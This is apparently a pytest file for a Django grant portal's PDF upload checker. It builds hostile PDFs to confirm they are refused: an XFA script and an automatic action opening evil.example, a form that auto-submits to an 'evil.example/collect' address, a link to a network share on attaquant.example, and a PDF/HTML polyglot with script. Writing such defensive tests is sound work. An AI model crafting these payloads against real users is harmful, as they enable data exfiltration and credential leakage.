"""PDFs whose danger only their structure shows, found by parsing their objects (pypdf):
automatic actions, form submissions, links to network shares, XFA scripts, PDF/HTML
polyglots. The byte-level checks are in test_uploads.py."""

from __future__ import annotations

import io

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from weasyprint import HTML

from grants.uploads import FileKind, inspect_upload

TEN_MB = 10 * 1024 * 1024


@pytest.fixture(scope="module")
def pdf() -> bytes:
    return HTML(string="<h1>Budget</h1><p>Bonjour</p>").write_pdf()


def upload(content: bytes) -> SimpleUploadedFile:
    return SimpleUploadedFile("piece.pdf", content, content_type="application/pdf")


def refusal(content: bytes) -> ValidationError:
    with pytest.raises(ValidationError) as caught:
        inspect_upload(upload(content), [FileKind.PDF], TEN_MB)
    return caught.value


ACTION_MESSAGE = (
    "Ce PDF contient une action automatique, un envoi de formulaire, un lien vers un partage "
    "réseau ou du code HTML : il ne peut être accepté. Enregistrez-le de nouveau en PDF simple "
    "(« Imprimer en PDF »)."
)
XFA_WITH_SCRIPT = (
    b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform name="f">'
    b'<event activity="initialize"><script contentType="application/x-javascript">'
    b"xfa.host.gotoURL('https://evil.example/')</script></event></subform></template></xdp:xdp>"
)


def _rewritten(pdf: bytes, change) -> bytes:
    """The PDF re-saved by pypdf after ``change(writer)``: a well-formed hostile file."""
    from pypdf import PdfWriter
    from pypdf.generic import NameObject

    writer = PdfWriter(clone_from=io.BytesIO(pdf))
    change(writer, NameObject)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _dictionary(**entries):
    from pypdf.generic import DictionaryObject, NameObject, TextStringObject

    def value(v):
        if isinstance(v, DictionaryObject):
            return v
        if isinstance(v, dict):
            return _dictionary(**v)
        if isinstance(v, str):
            return NameObject(v) if v.startswith("/") else TextStringObject(v)
        return v

    return DictionaryObject({NameObject("/" + k): value(v) for k, v in entries.items()})


def _xfa(writer, name):
    from pypdf.generic import ArrayObject, DecodedStreamObject

    stream = DecodedStreamObject()
    stream.set_data(XFA_WITH_SCRIPT)
    form = _dictionary(Fields=ArrayObject())
    form[name("/XFA")] = writer._add_object(stream)
    writer._root_object[name("/AcroForm")] = writer._add_object(form)


def _open_uri(writer, name):
    writer._root_object[name("/OpenAction")] = _dictionary(S="/URI", URI="https://evil.example/")


def _submit_on_open_page(writer, name):
    submit = _dictionary(S="/SubmitForm", F={"FS": "/URL", "F": "https://evil.example/collect"})
    writer.pages[0][name("/AA")] = _dictionary(O=submit)


def _network_link(writer, name):
    from pypdf.generic import ArrayObject, FloatObject

    link = _dictionary(
        Type="/Annot",
        Subtype="/Link",
        A=_dictionary(S="/GoToR", F="\\\\attaquant.example\\partage\\annexe.pdf"),
    )
    link[name("/Rect")] = ArrayObject([FloatObject(v) for v in (0, 0, 100, 20)])
    writer.pages[0][name("/Annots")] = ArrayObject([writer._add_object(link)])


@pytest.mark.parametrize(
    "change",
    [_xfa, _open_uri, _submit_on_open_page, _network_link],
    ids=["xfa-script", "openaction-uri", "aa-submitform", "gotor-network-path"],
)
def test_a_pdf_whose_structure_holds_an_active_action_is_refused(pdf, change):
    hostile = _rewritten(pdf, change)
    error = refusal(hostile)
    assert error.code == "pdf_active_action"
    assert error.messages == [ACTION_MESSAGE]


def test_a_file_both_pdf_and_html_is_refused(pdf):
    polyglot = pdf.replace(
        b"\n", b"\n%<html><body><script>fetch('/espace/')</script></body></html>\n", 1
    )
    assert polyglot.startswith(b"%PDF-")
    assert refusal(polyglot).code == "pdf_active_action"


def test_an_ordinary_pdf_with_a_web_link_is_accepted():
    # A link the reader clicks is ordinary (a CV, a bibliography): only automatic ones are not.
    from pypdf import PdfReader

    linked = HTML(string='<p><a href="https://www.esante.gouv.fr/">ANS</a></p>').write_pdf()
    [annotation] = PdfReader(io.BytesIO(linked)).pages[0]["/Annots"]
    assert annotation.get_object()["/A"]["/S"] == "/URI"
    assert inspect_upload(upload(linked), [FileKind.PDF], TEN_MB).kind == FileKind.PDF
